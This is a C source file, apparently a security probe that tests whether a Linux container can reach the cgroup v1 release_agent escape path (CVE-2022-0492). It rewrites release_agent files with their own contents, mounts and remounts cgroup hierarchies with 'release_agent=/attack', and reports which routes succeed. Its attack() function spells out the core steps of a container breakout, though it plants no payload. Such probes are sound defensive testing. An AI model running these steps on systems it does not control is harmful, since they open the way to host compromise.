// SPDX-License-Identifier: Apache-2.0
// release-agent own|nested|mounts: looks for a way to the program that the host runs when a cgroup of version 1 gets empty (CVE-2022-0492).
//
// "own" tries with the rights that it has, "nested" as root of a new user namespace with a cgroup namespace, "mounts" changes no mount that
// others share: it does not ask for another agent with a mount. A file is only written what it holds.
// Prints "reached WHAT" for each way, and "tried COUNT".
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int tried;

static int map(const char *file, const char *text) {
    int descriptor = open(file, O_WRONLY | O_CLOEXEC);
    int isWritten = descriptor >= 0 && write(descriptor, text, strlen(text)) == (ssize_t)strlen(text);
    if (descriptor >= 0) close(descriptor);
    return isWritten;
}

static void lookFor(const char *place, const char *controller) {
    char path[256], program[4096];
    snprintf(path, sizeof path, "%s/release_agent", place);
    tried++;
    int agent = open(path, O_RDWR | O_CLOEXEC);
    if (agent < 0) return;
    // The kernel lets everybody open it who may by its owner, and asks who it is when it is written to.
    ssize_t length = read(agent, program, sizeof program);
    if (length == 0) program[length++] = '\n';
    if (length > 0 && pwrite(agent, program, (size_t)length, 0) == length) printf("reached the file of %s\n", controller);
    close(agent);
}

static void attack(const char *controller, int mayRemount) {
    char options[128], place[128];
    snprintf(place, sizeof place, "/sys/fs/cgroup/%s", controller);
    lookFor(place, controller);
    snprintf(options, sizeof options, "%s%s", strcmp(controller, "systemd") ? "" : "none,name=", controller);
    if (mount("none", "/m", "cgroup", 0, options) == 0) {
        lookFor("/m", controller);
        umount2("/m", MNT_DETACH);
    }
    if (!mayRemount) return;
    tried++;
    snprintf(options, sizeof options, "%s%s,release_agent=/attack", strcmp(controller, "systemd") ? "" : "none,name=", controller);
    if (mount("none", "/m", "cgroup", 0, options) == 0) {
        printf("reached the mount of %s\n", controller);
        umount2("/m", MNT_DETACH);
    }
    if (mount("none", place, "cgroup", MS_REMOUNT, options) == 0) printf("reached the mount on %s\n", place);
}

int main(int count, char **words) {
    if (count != 2) return 2;
    mkdir("/m", 0755);
    if (strcmp(words[1], "nested") == 0
        && (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0 || !map("/proc/self/setgroups", "deny")
            || !map("/proc/self/uid_map", "0 0 1") || !map("/proc/self/gid_map", "0 0 1"))) {
        perror("release-agent");
        return 1;
    }
    static const char *const controllers[] = {"memory", "cpu", "cpuacct", "cpuset", "devices", "freezer", "blkio", "pids", "rdma", "misc", "systemd"};
    for (size_t i = 0; i < sizeof controllers / sizeof controllers[0]; i++) attack(controllers[i], strcmp(words[1], "mounts") != 0);
    printf("tried %d\n", tried);
    return 0;
}
